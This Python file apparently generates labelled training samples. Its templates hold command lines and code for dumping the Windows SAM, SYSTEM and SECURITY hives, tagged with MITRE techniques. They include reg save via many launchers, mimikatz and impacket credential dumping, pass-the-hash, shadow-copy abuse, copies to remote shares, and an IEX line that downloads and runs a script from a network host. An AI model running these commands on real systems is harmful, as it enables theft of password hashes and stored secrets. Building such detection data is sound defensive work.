"""Still more ways of T1003.002: hives saved, copied, read offline and remotely by many tools, and what only looks so."""

from __future__ import annotations

from training.generators.grammar import parse_templates

# SECURITY alone holds the LSA secrets: T1003.004.
MORE_HIVE_TEMPLATES = parse_templates(
    r"""
mh-reg-share-out cmd: cmd.exe /Q /c reg save ‹hklm›\«SAM¦SYSTEM» C:\Windows\Temp\‹letters8›.tmp ‹share_out›
mh-reg-share-out-security cmd +T1003.004: cmd.exe /Q /c reg save ‹hklm›\SECURITY C:\Windows\Temp\‹letters8›.tmp ‹share_out›
mh-reg-kept cmd: ‹cmd_c› reg.exe save ‹hklm›\«sam¦SAM» ‹file›‹kept›
mh-reg-rundll cmd: rundll32.exe «shell32.dll,ShellExec_RunDLL¦advpack.dll,RegisterOCX¦url.dll,FileProtocolHandler» reg.exe save ‹hklm›\SAM ‹file›
mh-reg-forfiles cmd: forfiles /p C:\Windows\System32 /m «notepad.exe¦calc.exe» /c "cmd /c reg save ‹hklm›\«sam¦system» ‹dir›\‹name›"
mh-reg-pcalua cmd: pcalua.exe -a reg.exe -c "save ‹hklm›\SAM ‹dir›\‹name›.hiv"
mh-reg-conhost cmd: conhost.exe «--headless ¦»«cmd /c ¦»reg save ‹hklm›\«SAM¦SYSTEM» ‹file›
mh-reg-mshta cmd: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""reg save HKLM\SAM ‹dir›\‹name›"",0:close")
mh-reg-bitsadmin cmd: bitsadmin /SetNotifyCmdLine ‹name› ‹system32›\reg.exe "save ‹hklm›\sam ‹dir›\‹name›.dat"
mh-reg-copied cmd: copy ‹system32›\reg.exe ‹dir›\‹name›.exe & ‹dir›\‹name›.exe save ‹hklm›\SAM ‹dir›\‹name›.dat
mh-reg-batch text: @echo off & setlocal & for %%h in (SAM SYSTEM SECURITY) do reg save HKLM\%%h "%~dp0%COMPUTERNAME%_%%h.hiv" /y >nul
mh-reg-batch-vars cmd: set k=«SAM¦sam» & call reg save ‹hklm›\%k% ‹dir›\%COMPUTERNAME%.%k% /y
mh-reg-computername cmd: reg save ‹hklm›\«sam¦system» \\‹server›\‹project›$\%COMPUTERNAME%-%USERNAME%.«hiv¦bin» /y
mh-reg-computername-security cmd +T1003.004: reg save ‹hklm›\security \\‹server›\‹project›$\%COMPUTERNAME%-sec.«hiv¦bin» /y
mh-reg-ads cmd: reg save ‹hklm›\sam ‹dir›\‹name›.txt:‹word› & type ‹dir›\‹name›.txt:‹word› > \\‹server›\c$\‹name›
mh-reg-sysnative cmd: C:\Windows\«Sysnative¦SysWOW64»\reg.exe save ‹hklm›\«SAM¦SYSTEM» ‹file› /y
mh-reg-sysnative-security cmd +T1003.004: C:\Windows\«Sysnative¦SysWOW64»\reg.exe save ‹hklm›\SECURITY ‹file› /y
mh-reg-paexec cmd: «paexec¦PAExec.exe» \\‹server› -u ‹domain›\‹user› -p ‹pass› -s reg save ‹hklm›\«SAM¦SYSTEM» C:\Windows\Temp\‹name›.dat
mh-reg-xcmd cmd: «csexec.exe \\‹server›¦RemCom.exe \\‹server›¦xCmd.exe \\‹server›» reg.exe save ‹hklm›\SAM C:\‹name›.dat
mh-reg-nircmd cmd: nircmd.exe «elevatecmd runassystem¦elevate» reg save ‹hklm›\SAM "‹dir›\‹name›.hiv"
mh-reg-advancedrun cmd: AdvancedRun.exe /EXEFilename "‹system32›\reg.exe" /CommandLine "save HKLM\SAM ‹dir›\‹name›" /RunAs 4 /Run
mh-reg-nsudo cmd: «NSudo.exe -U:T -P:E¦NSudoLC.exe -U:S -ShowWindowMode:Hide¦PowerRun.exe¦superUser64.exe /ws» reg save ‹hklm›\«SAM¦SYSTEM» ‹file›
mh-reg-runx cmd: "‹dir›\RunXcmd.exe" /acc=sys /cmd=reg export ‹hklm›\SAM ‹dir›\‹name›.reg
mh-reg-at cmd: at \\‹server› 23:‹n› "cmd /c reg save HKLM\SAM C:\Windows\Temp\‹name›"
mh-reg-task-xml text: <Exec><Command>reg.exe</Command><Arguments>save HKLM\«SAM¦SYSTEM» C:\ProgramData\‹name›.hiv /y</Arguments></Exec> <UserId>S-1-5-18</UserId>
mh-reg-runkey cmd: reg add ‹hklm›\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce /v ‹name› /d "reg save HKLM\sam ‹dir›\‹name›" /f
mh-reg-wsl bash: «wsl.exe -e ¦»/mnt/c/Windows/System32/reg.exe save 'HKLM\«SAM¦SYSTEM»' 'C:\Users\Public\‹name›'
mh-reg-gitbash bash: MSYS_NO_PATHCONV=1 reg save 'HKLM\«sam¦system»' /c/Users/Public/‹name›.hiv /y
mh-reg-shell-jscript text: var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c reg save HKLM\\«SAM¦SYSTEM» %TEMP%\\‹name›.hiv", 0, true);
mh-reg-node cmd: node -e "require('child_process').execSync('reg save HKLM\\\\SAM ‹name›.hiv /y')"
mh-reg-perl cmd: perl -e "system('reg','save','HKLM\\«SAM¦SYSTEM»','‹name›.hiv')"
mh-reg-ruby cmd: ruby -e "%w[sam system security].each { |h| `reg save HKLM\\#{h} C:\\Temp\\#{h}.hiv /y` }"
mh-reg-php text: <?php shell_exec('reg save HKLM\SAM C:\inetpub\wwwroot\‹name›.txt'); ?>
mh-reg-webshell text: POST /‹name›.aspx cmd=reg+save+HKLM%5C«SAM¦SYSTEM¦sam»+C%3A%5CWindows%5CTemp%5C‹name›.dat
mh-reg-python-sub text: for hive in ("SAM", "SYSTEM", "SECURITY"): subprocess.run(["reg", "save", rf"HKLM\{hive}", rf"C:\Windows\Temp\{hive}.bak", "/y"], check=True)
mh-reg-go text: exec.Command("reg.exe", "save", `HKLM\«SAM¦SYSTEM»`, filepath.Join(os.TempDir(), "‹name›.hiv")).Run()
mh-reg-rust text: Command::new("reg").args(["save", r"HKLM\SAM", r"C:\ProgramData\‹name›.hiv", "/y"]).spawn()
mh-reg-java text: Runtime.getRuntime().exec(new String[]{"reg", "save", "HKLM\\«SAM¦SYSTEM»", "C:\\Windows\\Temp\\‹name›"});
mh-reg-csharp text: Process.Start(new ProcessStartInfo("reg.exe", @"save HKLM\«SAM¦SYSTEM» C:\Users\Public\‹name›") { CreateNoWindow = true });
mh-reg-autoit text: RunWait(@ComSpec & " /c reg save HKLM\SAM " & @TempDir & "\‹name›.hiv /y", "", @SW_HIDE)
mh-reg-macro text: Shell "cmd.exe /c reg save HKLM\«SAM¦SYSTEM» " & Environ("TEMP") & "\‹name›.dat", vbHide
mh-reg-salt bash: salt '‹server›' cmd.run 'reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name›.hiv /y'
mh-reg-ansible bash: ansible ‹server› -m win_«shell¦command» -a 'reg save HKLM\«SAM¦SYSTEM» C:\Temp\‹name›.hiv /y'
mh-reg-puppet bash: «bolt command run¦knife winrm 'name:‹server›'» 'reg save HKLM\SAM C:\Temp\‹name›' «--targets winrm://‹ip›¦-x ‹user› -P ‹pass›»
mh-reg-azure bash: az vm run-command invoke -g ‹project›-rg -n ‹server› --command-id RunPowerShellScript --scripts "reg save HKLM\«SAM¦SYSTEM» C:\‹name›.hiv"
mh-reg-ssm bash: aws ssm send-command --document-name AWS-RunPowerShellScript --targets Key=tag:Name,Values=‹server› --parameters 'commands=["reg save HKLM\\SAM C:\\Temp\\‹name›.hiv"]'
mh-reg-gcloud bash: gcloud compute ssh ‹user›@‹server› --command 'reg save HKLM\SAM C:\‹name›.hiv'
mh-reg-vmtools bash: «vmrun -gu ‹user› -gp '‹pass›' runProgramInGuest /vmfs/volumes/‹word›/‹name›.vmx¦govc guest.start -vm ‹server› -l ‹user›:'‹pass›'» 'C:\Windows\System32\reg.exe' 'save HKLM\SAM C:\‹name›'
mh-reg-invoke-vmscript powershell: Invoke-VMScript -VM ‹server› -GuestUser ‹user› -GuestPassword '‹pass›' -ScriptText 'reg save HKLM\«SAM¦SYSTEM» C:\‹name›.hiv'
mh-reg-vmdirect powershell: Invoke-Command -VMName ‹server› -Credential $c { reg save HKLM\SAM C:\‹name›.hiv; reg save HKLM\SYSTEM C:\‹name›.sys }
mh-reg-container bash: «docker exec ‹name›¦kubectl exec ‹name› --» «reg save HKLM\\SAM C:\\‹name›¦cmd /c reg save HKLM\\SAM C:\\‹name›»
mh-reg-edr-console text: C:\> «runscript -Raw=```reg save HKLM\SAM C:\Windows\Temp\‹name›```¦execute reg save HKLM\SAM C:\‹name›¦run reg.exe save HKLM\SYSTEM C:\‹name›»
mh-reg-rmm text: «ScreenConnect¦Atera¦NinjaOne¦Kaseya¦TeamViewer» command on ‹server›: reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name› => The operation completed successfully.
mh-reg-pdq cmd: PDQDeploy.exe Deploy -Package "reg save HKLM\SAM \\‹server›\‹project›\%COMPUTERNAME%.hiv" -Targets ‹server›
mh-reg-sccm powershell: Invoke-CMScript -ScriptGuid ‹guid› # reg save HKLM\SAM C:\Windows\CCM\Logs\‹name›.log
mh-reg-sql-ole text: EXEC sp_OAMethod @sh, 'Run', NULL, 'cmd /c reg save HKLM\SAM C:\Windows\Temp\‹name›.hiv', 0;
mh-reg-mssqlclient text: SQL (sa  dbo@master)> xp_cmdshell "reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name›.bak"
mh-reg-winrm-shell text: *Evil-WinRM* PS C:\Users\‹user›\Documents> «reg save hklm\sam .\sam¦reg save hklm\system .\system¦download sam.hive¦download C:\Temp\SAM»
mh-reg-evil-dll text: *Evil-WinRM* PS C:\> «Copy-FileSeBackupPrivilege C:\Windows\System32\config\SAM C:\Temp\sam¦robocopy /b C:\Windows\System32\config C:\Temp SAM SYSTEM»
mh-reg-evil-security text +T1003.004: *Evil-WinRM* PS C:\Users\‹user›\Documents> «reg save hklm\security .\sec¦download security.hive»
mh-reg-meterpreter-shell text: C:\Windows\system32>reg save hklm\«sam¦system» c:\windows\temp\‹name›« The operation completed successfully.¦»
mh-reg-beacon-shell text: beacon> «shell¦run¦powershell» reg save HKLM\«SAM¦SYSTEM» C:\Windows\Temp\‹name›
mh-reg-beacon-security text +T1003.004: beacon> «shell¦run» reg save HKLM\SECURITY C:\Windows\Temp\‹name›
mh-reg-beacon-bof text: beacon> «reg_save HKLM SAM C:\Windows\Temp\‹name›¦bof_reg_save HKLM\SYSTEM ‹name›¦inline-execute reg_save.x64.o 2 SAM C:\‹name›¦download C:\Windows\Temp\sam.hiv»
mh-reg-havoc text: [‹user›] Demon >> «shell reg save HKLM\SAM C:\‹name›.tmp¦samdump C:\Windows\Temp\¦powershell reg save HKLM\SYSTEM C:\‹name›¦reg_save HKLM SAM C:\‹name›»
mh-reg-export-json cmd: reg export ‹hklm›\SAM\SAM\Domains\«Account\Users¦Account\Users\000001F4¦Builtin» ‹file› /y
mh-reg-export-remote cmd: winrs -r:‹server› reg export ‹hklm›\SAM C:\Temp\‹name›.reg /y
mh-reg-export-security-remote cmd +T1003.004: winrs -r:‹server› reg export ‹hklm›\SECURITY\Policy C:\Temp\‹name›.reg /y
mh-reg-regedit-a cmd: regedit.exe «/a¦/A» ‹file› "HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account"
mh-reg-regedit-security cmd +T1003.004: regedit.exe «/e¦/a» ‹file› "HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets"
mh-regfile-text text: Windows Registry Editor Version 5.00 [HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account\Users\00000«1F4¦3E9¦3EA»] "F"=hex:03,00,01,00 "V"=hex:00,00,00,00,f4,00
mh-regfile-security text +T1003.004: Windows Registry Editor Version 5.00 [HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets\«DPAPI_SYSTEM¦NL$KM¦$MACHINE.ACC»\CurrVal] @=hex(0):00,00,00,01
mh-query-out-value text: HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account\Users\000001F4    V    REG_BINARY    00000000F400000003000100‹hex›
mh-query-psexec cmd: psexec -s -i reg query ‹hklm›\SAM\SAM\Domains\Account\Users\000001F4 /v V
mh-query-secrets-psexec cmd +T1003.004: psexec -s reg query ‹hklm›\SECURITY\Policy\Secrets«\_SC_‹name›\CurrVal¦\DefaultPassword¦» /s
mh-query-policy cmd +T1003.004: reg query "‹hklm›\SECURITY\Policy\«PolEKList¦PolSecretEncryptionKey¦PolRevision¦Secrets\NL$KM\CurrVal»" /ve
mh-query-bootkey cmd: for %k in (JD Skew1 GBG Data) do @reg query ‹hklm›\SYSTEM\CurrentControlSet\Control\Lsa\%k & reg query ‹hklm›\SAM\SAM\Domains\Account /v F
mh-regini-acl cmd: «echo \Registry\Machine\SAM\SAM [1 5 7 17]> ‹name›.ini & regini ‹name›.ini¦regini ‹dir›\sam-acl.ini & reg query HKLM\SAM\SAM\Domains\Account\Users /s»
mh-acl-security powershell +T1003.004: $k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SECURITY\Policy\Secrets','ReadWriteSubTree','ChangePermissions'); $k.SetAccessControl($acl); $k.GetSubKeyNames()
mh-acl-sam powershell: $k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SAM\SAM','ReadWriteSubTree','ChangePermissions'); $a = $k.GetAccessControl(); $a.AddAccessRule($r); $k.SetAccessControl($a)
mh-regjump-gui text: ‹user› opened regedit.exe as SYSTEM (PsExec -s -i) and exported HKEY_LOCAL_MACHINE\«SAM¦SAM\SAM¦SYSTEM» to ‹file›
mh-vss-symlink cmd: mklink /«D¦J» C:\‹name› ‹vss›\ & robocopy C:\‹name›\Windows\System32\config ‹dir› «SAM SYSTEM SECURITY¦SAM SYSTEM»
mh-vss-newest cmd: for /f "tokens=4" %v in ('vssadmin list shadows ^| findstr /i HarddiskVolumeShadowCopy') do copy %v\Windows\System32\config\SAM ‹dir›\‹name›
mh-vss-delete cmd: copy ‹vss›\windows\system32\config\«sam¦system» ‹dir› & vssadmin delete shadows /shadow=‹guid› /quiet
mh-vss-vshadow cmd: vshadow.exe -nw -exec=‹dir›\‹name›.cmd C: & type ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›
mh-vss-vshadow-expose cmd: vshadow.exe -p C: && vshadow -el=‹guid›,«X: && copy X¦Y: && copy Y»:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
mh-vss-diskshadow-script text: set context persistent nowriters; add volume c: alias cdrive; create; expose %cdrive% z:; exec "cmd.exe" /c copy z:\windows\system32\config\«sam¦system» c:\temp\‹name›
mh-vss-cim powershell: $s = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'}; $d = (Get-CimInstance Win32_ShadowCopy | ? ID -eq $s.ShadowID).DeviceObject; cmd /c copy "$d\Windows\System32\config\«SAM¦SYSTEM»" ‹dir›
mh-vss-net-shadow powershell: $d = (gwmi Win32_ShadowCopy | select -Last 1).DeviceObject; [IO.File]::WriteAllBytes("$env:TEMP\‹name›", [IO.File]::ReadAllBytes("$d\Windows\System32\config\SAM"))
mh-vss-remote-wmi powershell: $w = [wmiclass]"\\‹server›\root\cimv2:Win32_ShadowCopy"; $w.Create("C:\","ClientAccessible"); Copy-Item "\\‹server›\C$\@GMT-2024.«03¦07¦11».01-10.00.00\Windows\System32\config\SAM" ‹dir›
mh-vss-gmt cmd: copy "\\«localhost¦127.0.0.1¦‹server›»\C$\@GMT-2023.11.«04¦09¦21»-08.15.00\Windows\System32\config\«SAM¦SYSTEM»" ‹dir›
mh-vss-python text: for i in range(1, 30): p = r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%d\Windows\System32\config\SAM" % i; shutil.copyfile(p, "sam_%d" % i)
mh-vss-cpp text: swprintf(path, L"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy%d\\Windows\\System32\\config\\«SAM¦SYSTEM»", i); hFile = CreateFileW(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
mh-vss-csharp text: File.Copy(@"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SAM", Path.Combine(tmp, "‹name›"));
mh-vss-wmiexec bash: «wmiexec.py¦impacket-wmiexec» ‹domain›/‹user›:'‹pass›'@‹ip› 'cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SAM C:\Temp\‹name›'
mh-vss-ntfs-read cmd: «ShadowCopyView.exe /CopyFiles "‹vss›" "Windows\System32\config\SAM" ‹dir›¦ShadowSpawn.exe C:\Windows\System32\config Q: copy Q:\SAM ‹dir›¦ShadowExplorerPortable.exe export Windows\System32\config\SAM ‹dir›»
mh-vss-mount-linux bash: vshadowmount ‹lfile› /mnt/vss && mount -o ro,show_sys_files /mnt/vss/vss‹n› /mnt/s && cp /mnt/s/Windows/System32/config/«SAM¦SYSTEM» ‹ldir›
mh-hivenightmare-acl cmd: icacls ‹config›\«SAM¦SYSTEM» & vssadmin list shadows & ‹dir›\«HiveNightmare¦‹name›».exe
mh-hivenightmare-out text: «HiveNightmare v0.6 - dump registry hives as non-admin users Success: SAM hive from 2021-«07¦08¦09»-12 written out to current working directory as SAM-2021-«07¦08¦09»-12¦SAM hive written to SAM-haxx, use secretsdump.py»
mh-hivenightmare-users text: C:\Windows\System32\config\SAM BUILTIN\Administrators:(I)(F) NT AUTHORITY\SYSTEM:(I)(F) BUILTIN\Users:(I)(RX) => vulnerable, copying ‹vss›\Windows\System32\config\SAM
mh-hivenightmare-ps powershell: «Invoke-HiveNightmare -path ‹dir›¦Import-Module .\Invoke-HiveNightmare.ps1; Invoke-HiveNightmare¦. .\HiveNightmare.ps1; Get-HiveNightmare»
mh-hivenightmare-mimikatz text: mimikatz # «misc::shadowcopies lsadump::sam /system:‹vss›\Windows\System32\config\SYSTEM /sam:‹vss›\Windows\System32\config\SAM¦lsadump::sam /system:‹vss›\Windows\System32\config\SYSTEM /sam:‹vss›\Windows\System32\config\SAM»
mh-hivenightmare-mimi-sec text +T1003.004: mimikatz # lsadump::secrets /system:‹vss›\Windows\System32\config\SYSTEM /security:‹vss›\Windows\System32\config\SECURITY
mh-hivenightmare-msf text: msf6 > use post/windows/gather/«credentials/windows_sam_hivenightmare; set SESSION ‹n›; set ITERATIONS ‹n›; run¦windows_sam_hivenightmare; exploit»
mh-hivenightmare-cme bash: «nxc¦crackmapexec» smb ‹ip› -u ‹user› -p '‹pass›' -M «hivenightmare¦backup_operator»
mh-backup-operator bash: «nxc¦netexec» smb ‹ip› -u ‹user› -p '‹pass›' -M backup_operator« && secretsdump.py -sam SAM -system SYSTEM -security SECURITY LOCAL¦»
mh-backup-operator-exe cmd: ‹dir›\BackupOperatorToDA.exe -t \\‹server› -u ‹user› -p ‹pass› -d ‹fqdn› -o \\‹ip›\«share¦‹name›»\
mh-backup-operator-py bash: «python3 backupoperators.py¦impacket-reg¦reg.py» '‹domain›/‹user›:‹pass›'@‹server› «backup -o '\\‹ip›\‹name›'¦-dc-ip ‹ip› save -keyName 'HKLM\SAM' -o '\\‹ip›\‹name›'»
mh-reg-py-hashes bash: «reg.py¦impacket-reg» -hashes :‹hash› '‹domain›/‹user›'@‹ip› save -keyName 'HKLM\«SAM¦SYSTEM»' -o 'C:\Windows\Temp'
mh-reg-py-hashes-security bash +T1003.004: «reg.py¦impacket-reg» -hashes :‹hash› '‹domain›/‹user›'@‹ip› save -keyName 'HKLM\SECURITY' -o '\\‹ip›\‹name›'
mh-reg-py-k bash: proxychains«4 -q¦» «reg.py¦impacket-reg» -k -no-pass ‹fqdn›/‹user›@‹server› backup -o '\\‹ip›\share'
mh-robocopy-b cmd: robocopy «/b¦/B /R:0» ‹config› ‹dir› «SAM SYSTEM¦SAM SYSTEM SECURITY¦SAM»
mh-robocopy-b-security cmd +T1003.004: robocopy /b ‹config› ‹dir› SECURITY« SYSTEM¦»
mh-sebackup-ps powershell: «Import-Module .\SeBackupPrivilegeCmdLets.dll; Set-SeBackupPrivilege; ¦»Copy-FileSeBackupPrivilege ‹config›\«SAM¦SYSTEM» ‹file› -Overwrite
mh-sebackup-c text: SetPrivilege(hToken, SE_BACKUP_NAME, TRUE); RegCreateKeyExA(HKEY_LOCAL_MACHINE, "«SAM¦SYSTEM»", 0, NULL, REG_OPTION_BACKUP_RESTORE, KEY_READ, NULL, &hk, NULL); RegSaveKeyA(hk, "C:\\Temp\\‹name›", NULL);
mh-sebackup-c-security text +T1003.004: RegOpenKeyExW(HKEY_LOCAL_MACHINE, L"SECURITY", REG_OPTION_BACKUP_RESTORE, KEY_READ, &hKey); RegSaveKeyExW(hKey, L"C:\\Temp\\‹name›", NULL, REG_LATEST_FORMAT);
mh-ntsave-c text: InitializeObjectAttributes(&oa, L"\\Registry\\Machine\\«SAM¦SYSTEM»", OBJ_CASE_INSENSITIVE, NULL, NULL); NtOpenKeyEx(&hKey, KEY_READ, &oa, REG_OPTION_BACKUP_RESTORE); NtSaveKey«Ex¦»(hKey, hFile);
mh-pinvoke-save text: [DllImport("«advapi32¦ntdll»")] static extern int «RegSaveKey¦RegSaveKeyEx¦NtSaveKey»(IntPtr h, string f, IntPtr sa); ... SaveHive("SAM"); SaveHive("SYSTEM");
mh-ctypes-save cmd: python -c "import ctypes,win32api,win32con; h=win32api.RegOpenKeyEx(win32con.HKEY_LOCAL_MACHINE,'«SAM¦SYSTEM»',4,win32con.KEY_READ); win32api.RegSaveKey(h,r'‹dir›\‹name›')"
mh-winreg-savekey text: import winreg; k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "«SAM¦SYSTEM»"); winreg.SaveKey(k, r"C:\Temp\‹name›.hiv")
mh-winreg-savekey-security text +T1003.004: winreg.SaveKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "SECURITY"), r"C:\Temp\‹name›.hiv")
mh-nim-save text: «discard RegSaveKeyA(hKey, "C:\\Temp\\sam.hiv", nil) # nim SAM¦windows.RegSaveKey(sam, syscall.StringToUTF16Ptr(out), nil) // HKLM\SAM¦RegSaveKeyExW(hive_sam, w!("C:\\Temp\\sam"), None, REG_LATEST_FORMAT)»
mh-regqueryclass text: RegQueryInfoKeyW(hLsaJD, szClass, &cch, ...); // JD Skew1 GBG Data -> bootkey; then RegQueryValueExW(hAccount, L"F", ...) under SAM\\SAM\\Domains\\Account
mh-lsaretrieve-c text +T1003.004: LsaOpenPolicy(NULL, &oa, POLICY_GET_PRIVATE_INFORMATION, &h); LsaRetrievePrivateData(h, L"«_SC_‹name›¦DefaultPassword¦$MACHINE.ACC¦DPAPI_SYSTEM¦NL$KM»", &data);
mh-lsaretrieve-ps powershell +T1003.004: Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern uint LsaRetrievePrivateData(IntPtr p, ref LSA_UNICODE_STRING k, out IntPtr d);' -Name ‹Word› -Namespace L; [L.‹Word›]::LsaRetrievePrivateData($h,[ref]$k,[ref]$d)
mh-lsaretrieve-py cmd +T1003.004: python -c "import win32security as w; h=w.LsaOpenPolicy(None,w.POLICY_GET_PRIVATE_INFORMATION); print(w.LsaRetrievePrivateData(h,'«DefaultPassword¦_SC_‹name›¦$MACHINE.ACC»'))"
mh-lsaopensecret text +T1003.004: LsaOpenSecret(hPolicy, &name, SECRET_QUERY_VALUE, &hSecret); LsaQuerySecret(hSecret, &cur, &ct, &old, &ot); // «DPAPI_SYSTEM¦NL$KM¦_SC_‹name›»
mh-samrpc text: SamConnect(&srv, &h, MAXIMUM_ALLOWED); SamOpenDomain(...); SamOpenUser(hDomain, 0x1f4, &hUser); SamQueryInformationUser(hUser, UserInternal1Information, &buf); SamIFree_SAMPR_USER_INFO_BUFFER
mh-samsrv-inject text: hash dump: injected thread into lsass.exe, LoadLibrary("samsrv.dll") SamIConnect SamrOpenDomain SamIGetPrivateData SamrQueryInformationUser «fgexec¦pwdump¦‹name›»
mh-rawdisk-ps powershell: $fs = New-Object IO.FileStream('\\.\«C:¦PhysicalDrive0»','Open','Read','ReadWrite'); # parse NTFS $MFT and carve Windows\System32\config\«SAM¦SYSTEM» to ‹dir›
mh-rawdisk-py text: fs = pytsk3.FS_Info(pytsk3.Img_Info(r"\\.\«C:¦PhysicalDrive0»")); f = fs.open("/Windows/System32/config/«SAM¦SYSTEM»"); open("‹name›", "wb").write(f.read_random(0, f.info.meta.size))
mh-rawdisk-powerforensics powershell: Copy-ForensicFile -Path C:\Windows\System32\config\«SAM¦SYSTEM» -Destination ‹file›
mh-rawdisk-forensic-content powershell: Get-ForensicFileRecord -Path C:\Windows\System32\config\SAM | % { $_.CopyFile('‹dir›\‹name›') }
mh-rawdisk-ninja powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-NinjaCopy.ps1'); Invoke-NinjaCopy -Path C:\Windows\System32\config\«SAM¦SYSTEM» -LocalDestination ‹dir›\‹name›
mh-rawdisk-tsk bash: «ifind -n 'Windows/System32/config/SAM' ‹lfile› | xargs icat ‹lfile› > ‹name›¦icat -o 206848 ‹lfile› ‹pid›-128-1 > SAM¦fcat Windows/System32/config/SAM ‹lfile› > SAM¦tsk_recover -a ‹lfile› out && cp out/Windows/System32/config/SAM .»
mh-rawdisk-fls cmd: icat.exe \\.\«C:¦PhysicalDrive0» ‹pid›-128-3 > ‹dir›\SAM
mh-rawdisk-ftk cmd: "C:\Program Files\AccessData\FTK Imager\«FTK Imager.exe" /ObtainSystemFiles¦ftkimager.exe" --export C:\Windows\System32\config\SAM» ‹dir›
mh-rawdisk-ftk-text text: FTK Imager: Obtain Protected Files, destination ‹dir›, option "«Password recovery and all registry files¦Minimum files for login password recovery»": SAM SYSTEM SECURITY exported
mh-rawdisk-xways text: «X-Ways¦WinHex¦EnCase¦Autopsy» opened drive C: of ‹server›, Recover/Copy \Windows\System32\config\«SAM¦SYSTEM» to ‹dir›
mh-rawdisk-bof text: beacon> «underlaycopy MFT C:\Windows\System32\config\SAM C:\‹name›¦inline-execute underlaycopy.o MFT C:\Windows\System32\config\SYSTEM C:\‹name›¦powershell Invoke-NinjaCopy -Path C:\Windows\System32\config\SAM -LocalDestination C:\‹name›»
mh-rawdisk-extents cmd: ‹dir›\«fget.exe -extract¦UnderlayCopy.exe MFT¦forecopy_handy.exe -f¦‹name›.exe -extract» C:\Windows\System32\config\«SAM¦SYSTEM» ‹file›
mh-kape cmd: «kape.exe¦‹dir›\KAPE\kape.exe» --tsource C: --tdest ‹dir› --target «RegistryHivesSystem¦RegistryHives¦!BasicCollection,RegistryHivesSystem»« --vss¦ --zip ‹name›»
mh-kape-offline cmd: kape.exe --msource ‹dir› --mdest ‹dir› --module «RegRipper-SAM¦RegRipper-sam» --mvars file:‹dir›\SAM
mh-recmd cmd: «RECmd.exe¦‹dir›\RECmd\RECmd.exe» -f ‹dir›\SAM «--kn SAM\Domains\Account\Users¦--bn BatchExamples\RECmd_Batch_MC.reb¦--kn ROOT\SAM\Domains\Account\Users --details» --csv ‹dir›
mh-regripper bash: «rip.pl¦regripper» -r ‹ldir›/SAM -«p samparse¦f sam¦p samparse_tln»‹lmaybe›
mh-regripper-security bash +T1003.004: «rip.pl¦regripper» -r ‹ldir›/SECURITY -«p secrets¦f security»‹lmaybe›
mh-rip-win cmd: ‹dir›\«RegRipper3.0¦rr»\rip.exe -r ‹dir›\SAM -p samparse > ‹file›
mh-velociraptor cmd: «velociraptor.exe¦‹dir›\Velociraptor.exe» «artifacts collect Windows.KapeFiles.Targets --args RegistryHives=Y¦artifacts collect Windows.Forensics.SAM¦fs --accessor ntfs cp "\\.\C:\Windows\System32\config\SAM" ‹dir›»
mh-velociraptor-vql text: SELECT OSPath, upload(file=OSPath, accessor="ntfs") FROM glob(globs="C:/Windows/System32/config/«SAM¦{SAM,SYSTEM,SECURITY}»", accessor="ntfs")
mh-cylr cmd: «CyLR.exe -c ‹name›.txt -od ‹dir› # C:\Windows\System32\config\SAM¦CyLR.exe --force-native -u ‹user› -p ‹pass› -s ‹ip›:22 C:\Windows\System32\config\SAM¦DFIR-Orc.exe GetSamHive /out=‹dir› SAM SYSTEM»
mh-live-response text: «getfile C:\Windows\System32\config\SAM¦get "C:\Windows\System32\config\SAM"¦getfile "\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SYSTEM"» session ‹guid› user ‹user› file queued for upload
mh-grr text: GRR flow «ArtifactCollectorFlow: WindowsRegistryFilesSAM¦FileFinder paths=C:\Windows\System32\config\SAM action=DOWNLOAD pathtype=TSK» on ‹server› completed
mh-dissect bash: target-query ‹lfile› -f «sam¦sam --raw¦lsa.secrets,sam»‹lmaybe›
mh-dissect-secrets bash +T1003.004: target-query ‹lfile› -f lsa«.secrets¦»‹lmaybe›
mh-dissect-fs bash: «target-fs ‹lfile› cp 'sysvol/windows/system32/config/SAM' -o ‹ldir›¦acquire ‹lfile› --registry -o ‹ldir› # SAM SYSTEM»
mh-volatility bash: «vol -f ‹lfile› windows.hashdump.Hashdump¦python3 vol.py -f ‹lfile› windows.hashdump¦volatility -f ‹lfile› --profile=Win7SP1x64 hashdump -y 0xfffff8a000024010 -s 0xfffff8a0016d0010¦vol.py -f ‹lfile› hashdump»
mh-volatility-secrets bash +T1003.004: «vol -f ‹lfile› windows.lsadump.Lsadump¦python3 vol.py -f ‹lfile› windows.lsadump¦volatility -f ‹lfile› --profile=Win10x64_18362 lsadump»
mh-volatility-hives bash: vol -f ‹lfile› -o ‹ldir› windows.registry.hivelist --filter «SAM --dump¦'config\SAM' --dump¦SYSTEM --dump && ls registry.SAM.*.hive»
mh-memprocfs cmd: «memprocfs.exe -device ‹dir›\‹name›.dmp -mount M & copy M:\registry\hive_files\*SAM* ‹dir›¦copy M:\registry\hive_files\0x‹hex›-SAM-MACHINE_SAM.reghive ‹dir›»
